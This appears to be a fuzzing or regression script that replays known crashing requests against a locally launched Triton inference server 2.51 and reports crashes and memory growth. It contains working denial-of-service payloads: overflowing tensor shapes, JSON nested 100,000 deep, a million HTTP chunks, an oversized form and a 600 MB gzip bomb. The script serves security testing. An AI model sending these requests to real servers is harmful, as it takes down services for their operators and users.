"""python -m benchmarks.fuzz.lethal: try each request that crashes tritonserver 2.51 on a new one.

SECURITY.md has the table. A newer Triton (`python -m server` finds it on PATH) may survive more.
"""

from __future__ import annotations

import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import replace

import numpy as np
import typer
from rich.console import Console

from benchmarks import artifacts
from benchmarks.fuzz.census import Census, is_alive
from benchmarks.fuzz.exchange import Answer
from benchmarks.fuzz.messages import (
    INFERENCE_HEADER,
    Request,
    Tensor,
    grpc_octets,
    http_body,
    http_message,
    http_octets,
    http_path,
)
from benchmarks.fuzz.run import Fuzzer
from benchmarks.fuzz.subject import DECODER, middle, request, strings
from server import TritonServer

Attempt = tuple[str, Callable[[Fuzzer], Answer]]
MEGABYTES = 600
FORM_BYTES = 10 * 2**20
"""Size of a form, curl's default content type; the thread that reads it has a stack of 8 MiB."""
DYING_SECONDS = 1.0
"""How long tritonserver may still look alive after its sockets have closed."""

console = Console(highlight=False)


def main() -> None:
    """Try every request known to crash tritonserver 2.51 or its decoder."""
    built = artifacts.demo(progress=console.print).repository
    for name, send in attempts():
        with TritonServer(built) as server:
            console.print(f"{name}: {_try(server, send)}", markup=False)


def _try(server: TritonServer, send: Callable[[Fuzzer], Answer]) -> str:
    with closing(Fuzzer(server)) as fuzzer:
        before = Census.from_pid(server.pid)
        answer = send(fuzzer)
        try:
            fuzzer.canary.check_again()
        except RuntimeError:
            time.sleep(DYING_SECONDS)
            if not is_alive(server.pid):
                return f"tritonserver crashed ({answer.code})"
            return f"a model's process crashed ({answer.code} {answer.text})"
        grown = (Census.from_pid(server.pid).private - before.private) / 2**20
    return f"survived ({answer.code} {answer.text[:80]}), grew by {grown:.0f} MiB"


def attempts() -> Iterator[Attempt]:
    """The name of each attempt, and the function that sends its request."""
    for shape in ((1, 2**32, 2**31, 2), (1, 0, 2**62, 2)):
        yield from _both(f"overflowing shape {shape}", _shaped(shape))
    yield from _both("values spelled out in a shape of 103 GB", _literal)
    yield from _both("classification of strings", _classified)
    yield "JSON nested 100,000 deep, HTTP", lambda f: f.http.send(_nested(_click(f), 100_000))
    yield "a million chunks, HTTP", lambda f: f.http.send(_chunks(_click(f), 1_000_000))
    yield f"a form of {FORM_BYTES // 2**20} MiB, HTTP", lambda f: f.http.send(_form(_click(f)))
    yield f"gzip of {MEGABYTES} MB, HTTP", lambda f: f.http.send(_gzip_bomb(_click(f)))


def _both(name: str, change: Callable[[Request], Request]) -> Iterator[Attempt]:
    yield f"{name}, HTTP", lambda f: f.http.send(http_octets(change(_click(f))))
    yield f"{name}, gRPC", lambda f: f.grpc.send(grpc_octets(change(_click(f))))


def _click(fuzzer: Fuzzer) -> Request:
    return request(DECODER, {"image_id": strings(fuzzer.subject.image_id), **middle()})


def _shaped(shape: tuple[int, ...]) -> Callable[[Request], Request]:
    return lambda click: click.replacing(Tensor("point_coords", "FP32", shape))


def _literal(click: Request) -> Request:
    values = Tensor("point_coords", "FP32", (1, 2**31, 6, 2), values=[0.5, 0.5])
    labels = Tensor("point_labels", "INT32", (1, 1, 1), values=[1])
    name = Tensor("image_id", "BYTES", (1, 1), values=["x"])
    return click.replacing(values, labels, name)


def _classified(click: Request) -> Request:
    return replace(click, outputs=({"name": "image_id", "parameters": {"classification": 1}},))


def _nested(click: Request, levels: int) -> bytes:
    spelled = Tensor("point_coords", "FP32", (1, 1, 1, 2), values="here")
    header, _ = http_body(Request(click.model, (spelled,)))
    body = header.replace(b'"here"', b"[" * levels + b"0.5" + b"]" * levels)
    return http_message(http_path(click), body, {"Content-Length": len(body)})


def _chunks(click: Request, count: int) -> bytes:
    header, data = http_body(click)
    header = header.ljust(count - len(data))
    pieces = (b"1\r\n" + bytes([octet]) + b"\r\n" for octet in header + data)
    headers: dict[str, str | int] = {INFERENCE_HEADER: len(header), "Transfer-Encoding": "chunked"}
    return http_message(http_path(click), b"".join(pieces) + b"0\r\n\r\n", headers)


def _form(click: Request) -> bytes:
    kind = "application/x-www-form-urlencoded"
    headers: dict[str, str | int] = {"Content-Length": FORM_BYTES, "Content-Type": kind}
    return http_message(http_path(click), b"a" * FORM_BYTES, headers)


def _gzip_bomb(click: Request) -> bytes:
    header, _ = http_body(click)
    packer = zlib.compressobj(9, wbits=31)
    blank = bytes(np.full(10**6, ord(" "), np.uint8))
    parts = [packer.compress(header), *(packer.compress(blank) for _ in range(MEGABYTES))]
    body = b"".join([*parts, packer.flush()])
    lengths: dict[str, str | int] = {"Content-Length": len(body), INFERENCE_HEADER: len(header)}
    return http_message(http_path(click), body, {**lengths, "Content-Encoding": "gzip"})


if __name__ == "__main__":
    typer.run(main)
